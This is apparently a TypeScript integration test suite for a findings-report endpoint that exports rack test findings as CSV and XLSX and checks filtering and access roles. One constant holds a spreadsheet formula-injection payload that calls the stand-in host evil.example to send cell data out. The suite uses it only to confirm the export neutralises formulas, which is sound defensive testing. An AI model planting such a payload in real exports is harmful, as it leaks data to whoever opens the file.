import { parseCsv } from '@rackeval/testing';
import ExcelJS from 'exceljs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import request from 'supertest';
import { BOM, ResultsHarness } from './support/results.harness';

const HEADER = [
  'id',
  'rack_serial',
  'generation',
  'lot',
  'run_id',
  'origin',
  'criterion',
  'diagnosis',
  'title',
  'failure_class',
  'state',
  'owner',
  'part_number',
  'supplier',
  'country_of_origin',
  'location',
  'opened_at',
  'updated_at',
  'group_key',
  'similar_findings',
  'evidence',
];
const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"open")';

const binary = (res: request.Response, done: (error: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (chunk: Buffer) => chunks.push(chunk));
  res.on('end', () => done(null, Buffer.concat(chunks)));
};

interface Opened {
  id: string;
  rackSerial: string;
  title: string;
}

/** The manufacturer's findings report of a generation or lot, as CSV and XLSX, through HTTP on a real database and broker. */
describe('the findings report', () => {
  let sut: ResultsHarness;
  let folder: string;
  /** Findings of G2 in the order they were opened; lot A's first, then lot B's. */
  const g2: Opened[] = [];
  let attachmentHref: string;
  const log = Buffer.from('2026-11-29T10:00:00Z psu shelf 2 tripped at 97.2 kW\n');

  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'rackeval-findings-report-'));
    sut = await ResultsHarness.start({ ATTACHMENTS_DIR: folder });
    await received('RK-R-A1', 'G2', 'A');
    await received('RK-R-B1', 'G2', 'B');
    await received('RK-R-C1', 'G3', 'A');
    const tess = await sut.as('tess');
    const open = async (rackSerial: string, body: Record<string, unknown>): Promise<Opened> =>
      (
        await tess
          .post('/v1/findings')
          .send({ rackSerial, ...body })
          .expect(201)
      ).body;
    const psu = { partNumber: 'PSU-3KW-A', location: 'PSU shelf 2' };
    g2.push(await open('RK-R-A1', { criterion: 'rack.power', title: 'PSU shelf 2 tripped under full load', component: psu }));
    g2.push(await open('RK-R-B1', { criterion: 'rack.power', title: 'PSU shelf 1, tripped twice', component: psu }));
    g2.push(await open('RK-R-B1', { diagnosis: 'coolant-leak', title: FORMULA_TITLE, component: { partNumber: 'CDU-LC-2' } }));
    await open('RK-R-C1', { criterion: 'rack.power', title: 'PSU shelf 3 tripped', component: psu });
    const attached = await tess
      .post(`/v1/findings/${g2[0].id}/attachments?filename=harness.log`)
      .set('content-type', 'text/plain')
      .send(log)
      .expect(201);
    attachmentHref = attached.body.href;
  });
  afterAll(async () => {
    await sut?.dispose();
    if (folder) await rm(folder, { recursive: true, force: true });
  });

  const received = (rackSerial: string, generation: string, lot: string) => sut.receiveRack(rackSerial, generation, lot, BOM);

  const csvOf = async (user: string, query: string) => {
    const answer = await (await sut.as(user)).get(`/v1/findings/report?${query}`).expect(200);
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
    const [header, ...rows] = parseCsv(answer.text);
    return { answer, header, rows: rows.map((cells) => Object.fromEntries(header.map((name, i) => [name, cells[i]]))) };
  };

  it("answers a generation's findings as CSV, oldest first, with their BOM line, group size and evidence links that download", async () => {
    const { answer, header, rows } = await csvOf('vic', 'generation=G2');

    expect(answer.headers['content-disposition']).toContain('findings-G2.csv');
    expect(header).toEqual(HEADER);
    expect(rows.map((row) => row.id)).toEqual(g2.map((finding) => finding.id));
    expect(rows[0]).toMatchObject({
      rack_serial: 'RK-R-A1',
      generation: 'G2',
      lot: 'A',
      run_id: '',
      origin: 'MANUAL',
      criterion: 'rack.power',
      diagnosis: '',
      title: 'PSU shelf 2 tripped under full load',
      failure_class: '',
      state: 'OPEN',
      owner: '',
      part_number: 'PSU-3KW-A',
      supplier: 'Delta Electronics',
      country_of_origin: 'TW',
      location: 'PSU shelf 2',
      group_key: 'criterion:rack.power|PSU-3KW-A|UNCLASSIFIED',
      // The same part failing the same criterion on lot B and in G3: one group across lots and generations.
      similar_findings: '3',
      evidence: attachmentHref,
    });
    expect(new Date(rows[0].opened_at).toISOString()).toBe(rows[0].opened_at);
    expect(rows[1]).toMatchObject({ lot: 'B', title: 'PSU shelf 1, tripped twice', similar_findings: '3', evidence: '' });
    expect(rows[2]).toMatchObject({ diagnosis: 'coolant-leak', part_number: 'CDU-LC-2', supplier: 'CoolIT', similar_findings: '1' });

    expect(attachmentHref).toBe(`/v1/findings/${g2[0].id}/attachments/${attachmentHref.split('/').at(-1)}`);
    const download = await (await sut.as('vic')).get(rows[0].evidence).buffer(true).parse(binary).expect(200);
    expect(Buffer.compare(download.body as Buffer, log)).toBe(0);
  });

  it('narrows the report to a lot, and to a state, in the same order', async () => {
    expect((await csvOf('tess', 'generation=G2&lot=B')).rows.map((row) => row.id)).toEqual([g2[1].id, g2[2].id]);
    expect((await csvOf('tess', 'generation=G2&lot=A&format=csv')).rows.map((row) => row.id)).toEqual([g2[0].id]);
    expect((await csvOf('tess', 'generation=G2&state=VERIFIED')).rows).toEqual([]);
    expect((await csvOf('tess', 'generation=G9')).rows).toEqual([]);
  });

  it('neutralises a title a spreadsheet would run as a formula', async () => {
    const { rows } = await csvOf('fiona', 'generation=G2&lot=B');
    expect(rows[1].title).toBe(`'${FORMULA_TITLE}`);
  });

  it('answers the same rows as a workbook with one Findings sheet of typed cells', async () => {
    const answer = await (
      await sut.as('fiona')
    )
      .get('/v1/findings/report?generation=G2&format=xlsx')
      .buffer(true)
      .parse(binary)
      .expect(200);
    expect(answer.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(answer.headers['content-disposition']).toContain('findings-G2.xlsx');

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(answer.body as unknown as ArrayBuffer);
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Findings']);
    const sheet = workbook.getWorksheet('Findings')!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const column = (name: string) => header.indexOf(name) + 1;
    expect(header).toHaveLength(HEADER.length);
    expect(sheet.actualRowCount).toBe(1 + g2.length);
    expect(sheet.getColumn(column('Finding')).values.slice(2)).toEqual(g2.map((finding) => finding.id));
    expect(sheet.getRow(2).getCell(column('Evidence')).value).toBe(attachmentHref);
    expect(sheet.getRow(2).getCell(column('Similar findings')).value).toBe(3);
    expect(sheet.getRow(2).getCell(column('Opened at (UTC)')).type).toBe(ExcelJS.ValueType.Date);
    expect(sheet.getRow(4).getCell(column('Title')).value).toBe(`'${FORMULA_TITLE}`);
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
  });

  it('refuses a report without a generation or in an unknown format with 400 naming the parameter', async () => {
    const tess = await sut.as('tess');
    const missing = await tess.get('/v1/findings/report').expect(400);
    expect(missing.body).toMatchObject({ code: 'VALIDATION_FAILED' });
    expect([...new Set(missing.body.details.map((d: { field: string }) => d.field))]).toEqual(['generation']);
    const format = await tess.get('/v1/findings/report?generation=G2&format=pdf').expect(400);
    expect(format.body.details).toEqual([expect.objectContaining({ field: 'format', message: 'format must be one of csv, xlsx' })]);
  });

  it('is read by every role, as the findings are, and by no one without a role or a token', async () => {
    for (const user of ['vic', 'tess', 'fiona', 'ines', 'ada'])
      expect({ user, status: (await (await sut.as(user)).get('/v1/findings/report?generation=G2')).status }).toEqual({ user, status: 200 });
    const roleless = await sut.tokens.tokenWith({ username: 'nobody', roles: [] });
    await request(sut.url).get('/v1/findings/report?generation=G2').set('authorization', `Bearer ${roleless}`).expect(403);
    await request(sut.url).get('/v1/findings/report?generation=G2').expect(401);
  });
});
